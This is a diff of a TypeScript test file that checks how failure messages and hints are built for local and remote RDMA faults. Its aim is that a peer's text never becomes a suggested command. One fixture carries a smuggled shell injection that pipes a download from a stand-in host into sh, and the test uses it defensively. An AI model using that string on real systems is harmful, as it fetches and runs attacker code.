@@ -29,11 +29,12 @@ test("the agent's words are told as its own, hint and fault too", () => {
 test('no hint of a fault at the server is a command to paste here', () => {
   const hostile = { op: 'x', errno: 0, message: '(eth0;curl${IFS}x.example/a|sh; is down)' }
   const down = { op: 'x', errno: 0, message: 'rxe0 port 1 is down (eth0 is down)' }
-  const hintOf = (fault: Omit<NativeFault, 'code'>) =>
-    rootFailure(noReport(), { ...noReport(), fault: { code: 'RDMA_PORT_DOWN', ...fault } }, false)
-      ?.hint
-  expect(hintOf(hostile)).toBe('The agent says: at the server, rdma link show')
-  expect(hintOf(down)).toBe('The agent says: at the server, sudo ip link set eth0 up')
+  for (const words of [hostile, down]) {
+    const fault: NativeFault = { code: 'RDMA_PORT_DOWN', ...words }
+    expect(rootFailure(noReport(), { ...noReport(), fault }, false)).toMatchObject({
+      ...{ exitCode: EXIT_CODES.peer, hint: 'at the agent: rdma link show' },
+    })
+  }
 })
 
 test('the reason of a closed connection is no sequence for a terminal', () => {
@@ -62,6 +63,35 @@ test.each([
   expect(failure).toMatchObject({ code, exitCode, message: `At the client, it was ${native}.` })
   if (hint === null) expect(failure?.hint).toBeNull()
   else expect(failure?.hint).toMatch(hint)
+})
+
+test.each([
+  'NO_MEMORY',
+  'THREAD',
+  'ADDRESS_IN_USE',
+  'UNSUPPORTED',
+  'RDMA_SETUP',
+  'RDMA_MEMLOCK',
+  'PATH_MTU',
+])('%s at an agent elsewhere is what the peer lacks, and its hint says where', (native) => {
+  const here = rootFailure(failedBy(native), noReport(), false)
+  const there = rootFailure(noReport(), failedBy(native), false)
+  expect(here).toMatchObject({ exitCode: environment })
+  expect(there).toMatchObject({ code: here?.code, exitCode: peer })
+  expect(there?.hint).toBe(`at the agent: ${here?.hint}`)
+  // Both on this machine.
+  const beside = rootFailure(noReport(), failedBy(native), false, true)
+  expect(beside).toMatchObject({ exitCode: environment, hint: here?.hint })
+})
+
+test('a hint of ours has no words of an agent in it', () => {
+  const message = 'port 1 is down (reboot is down)'
+  const down = failedBy('RDMA_PORT_DOWN', { message })
+  expect(rootFailure(down, noReport(), false)?.hint).toContain('reboot')
+  const there = rootFailure(noReport(), down, false)
+  expect(there?.message).toBe(`The agent says: at the server, ${message}.`)
+  expect(there?.hint).not.toContain('reboot')
+  expect(rootFailure(noReport(), down, false, true)?.hint).not.toContain('reboot')
 })
 
 test('a queue pair that is no longer answered is told only when the other end says nothing better', () => {
@@ -116,5 +146,7 @@ test.each([
   const short = failedBy(native, { op, errno: constants.errno[name] })
   const here = rootFailure(short, noReport(), false)
   expect(here).toMatchObject({ code, exitCode: environment, hint: expect.stringMatching(hint) })
-  expect(rootFailure(noReport(), short, false)).toMatchObject({ code, exitCode: peer })
+  const there = { code, exitCode: peer, hint: `at the agent: ${here?.hint}` }
+  expect(rootFailure(noReport(), short, false)).toMatchObject(there)
+  expect(rootFailure(noReport(), short, false, true)).toMatchObject({ exitCode: environment })
 })
